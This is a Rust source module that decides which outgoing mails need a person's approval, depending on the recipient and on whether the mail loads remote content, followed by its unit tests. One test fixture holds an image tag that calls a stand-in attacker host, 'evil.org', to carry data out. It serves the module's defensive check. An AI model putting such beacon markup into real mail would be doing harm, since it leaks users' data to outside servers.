//! The policy that decides which mails need a person's approval.

use crate::{config::ConfirmPolicy, mail::sending::prepared::PreparedMail};
use tai_proto::names::{Address, Instance};

/// Returns whether the policy requires approval of the mail.
pub(super) fn applies(
    policy: ConfirmPolicy,
    mail: &PreparedMail,
    default_recipient: Option<&Address>,
) -> bool {
    match policy {
        ConfirmPolicy::Never => false,
        ConfirmPolicy::Always => true,
        ConfirmPolicy::Unfamiliar => {
            mail.suspicion.is_some() || !mail.parts.preview.loads.is_empty()
        }
        // A mail to oneself that loads an image tells its server what the image's URL contains.
        ConfirmPolicy::External => {
            !is_own(mail, default_recipient) || !mail.parts.preview.loads.is_empty()
        }
    }
}

/// Returns whether a mail goes to the user or to the account itself.
pub(in crate::mail) fn is_own(mail: &PreparedMail, default_recipient: Option<&Address>) -> bool {
    is_internal(&mail.to, &mail.account, default_recipient)
}

/// Returns whether a recipient is the default one, or the account with any instance.
fn is_internal(to: &Address, account: &Address, default_recipient: Option<&Address>) -> bool {
    if default_recipient.is_some_and(|user| to.matches(user.as_str())) {
        return true;
    }
    if account.matches(to.as_str()) {
        return true;
    }
    // The parsed address has one `@`, and the name of an instance contains no dot.
    let instance = to.as_str().split_once('.').map(|(instance, _)| instance);
    instance.is_some_and(|instance| {
        let of_account = Instance::new(instance)
            .ok()
            .and_then(|instance| Address::new(format!("{instance}.{account}")).ok());
        of_account.is_some_and(|address| address.matches(to.as_str()))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::mail::sending::prepared::prepared;

    #[test]
    fn every_recipient_but_the_default_one_and_the_account_is_external() {
        let account = Address::new("alice@tai.chat").unwrap();
        let is_internal = |to: &str| {
            let to = Address::new(to).unwrap();
            let user = Address::new("Me@example.com").unwrap();
            is_internal(&to, &account, Some(&user))
        };
        for own in [
            "alice@tai.chat",
            "ALICE@tai.chat",
            "desk.Alice@TAI.chat",
            "me@example.com",
        ] {
            assert!(is_internal(own), "{own}");
        }
        for other in [
            "malice@tai.chat",
            "bob@tai.chat",
            "alice@tai.chat.example.com",
            "me@example.org",
            "a.b.alice@tai.chat",
        ] {
            assert!(!is_internal(other), "{other}");
        }
    }

    #[test]
    fn each_policy_applies_to_its_mails() {
        let (external, internal) = (
            prepared("bob@tai.chat", ""),
            prepared("lab.alice@tai.chat", ""),
        );
        let loading = prepared("lab.alice@tai.chat", "<img src=\"https://evil.org/?d=x\">");
        for (policy, to_external, to_internal, loads) in [
            (ConfirmPolicy::Never, false, false, false),
            (ConfirmPolicy::External, true, false, true),
            (ConfirmPolicy::Unfamiliar, false, false, true),
            (ConfirmPolicy::Always, true, true, true),
        ] {
            assert_eq!(applies(policy, &external, None), to_external);
            assert_eq!(applies(policy, &internal, None), to_internal);
            assert_eq!(applies(policy, &loading, None), loads);
        }
    }
}
